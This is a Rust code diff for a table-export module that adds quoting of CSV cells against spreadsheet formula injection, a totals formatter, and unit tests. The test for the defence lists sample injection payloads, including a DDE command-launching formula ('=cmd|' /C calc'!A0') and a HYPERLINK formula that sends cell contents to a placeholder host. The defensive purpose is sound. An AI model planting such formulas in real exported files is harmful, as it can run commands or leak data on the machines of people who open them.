@@ -62,7 +62,8 @@ pub fn text(t: &Table) -> String {
 }
 
 /// CSV that Excel opens with Chinese intact: UTF-8 with a byte-order mark, CRLF line ends,
-/// amounts as plain numbers.
+/// amounts as plain numbers, totals as a count or an amount is written, and no text that a
+/// spreadsheet would run as a formula ([`csv_cell`]).
 pub fn csv(t: &Table) -> anyhow::Result<Vec<u8>> {
     let mut out = "\u{feff}".as_bytes().to_vec();
     {
@@ -71,13 +72,14 @@ pub fn csv(t: &Table) -> anyhow::Result<Vec<u8>> {
             .from_writer(&mut out);
         w.write_record(t.columns.iter().map(|c| c.title.as_str()))?;
         for row in &t.rows {
-            w.write_record(row.iter().map(plain))?;
+            w.write_record(row.iter().map(csv_cell))?;
         }
         if t.totals.iter().any(Option::is_some) {
             let mut total: Vec<String> = t
                 .totals
                 .iter()
-                .map(|x| x.map(Value::from).map(|v| plain(&v)).unwrap_or_default())
+                .zip(&t.columns)
+                .map(|(x, c)| x.map(|x| total_text(x, c.kind)).unwrap_or_default())
                 .collect();
             if let Some(first) = total.iter_mut().position(|s| s.is_empty()) {
                 total[first] = t.total_label.clone();
@@ -87,6 +89,29 @@ pub fn csv(t: &Table) -> anyhow::Result<Vec<u8>> {
         w.flush()?;
     }
     Ok(out)
+}
+
+/// A cell for CSV. Text that a spreadsheet would read as a formula — starting with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return — is written behind a single quote, as OWASP advises
+/// against formula injection; numbers stay numbers.
+fn csv_cell(v: &Value) -> String {
+    let text = plain(v);
+    if !v.is_number() && text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text
+    }
+}
+
+/// A total as its column writes numbers: counts whole, an amount or a number with its cents
+/// only when it has some.
+fn total_text(x: f64, kind: crate::model::registers::Kind) -> String {
+    use crate::model::registers::Kind;
+    if matches!(kind, Kind::Count | Kind::Row) || x.fract() == 0.0 {
+        format!("{}", x.round() as i64)
+    } else {
+        format!("{x:.2}")
+    }
 }
 
 #[cfg(feature = "xlsx")]
@@ -191,4 +216,42 @@ pub fn xlsx(_: &Table, _: &std::path::Path) -> anyhow::Result<()> {
     anyhow::bail!(
         "this clerk was built without Excel workbooks (cargo feature `xlsx`); use --format csv"
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::registers::Kind;
+    use serde_json::json;
+
+    #[test]
+    fn text_that_a_spreadsheet_would_run_is_quoted() {
+        for formula in [
+            "=HYPERLINK(\"http://x\"&A1,\"x\")",
+            "=cmd|' /C calc'!A0",
+            "+1",
+            "-2",
+            "@SUM(1)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(csv_cell(&json!(formula)), format!("'{formula}"));
+        }
+        assert_eq!(
+            csv_cell(&json!(-30000)),
+            "-30000",
+            "a number stays a number"
+        );
+        assert_eq!(csv_cell(&json!("陳淑芬")), "陳淑芬");
+        assert_eq!(csv_cell(&json!(["=a", "b"])), "'=a, b");
+    }
+
+    #[test]
+    fn totals_are_written_as_their_column_writes_numbers() {
+        assert_eq!(total_text(9.0, Kind::Count), "9");
+        assert_eq!(total_text(0.0, Kind::Amount), "0");
+        assert_eq!(total_text(150000.0, Kind::Amount), "150000");
+        assert_eq!(total_text(8.5, Kind::Number), "8.50");
+        assert_eq!(total_text(1234.567, Kind::Amount), "1234.57");
+    }
 }
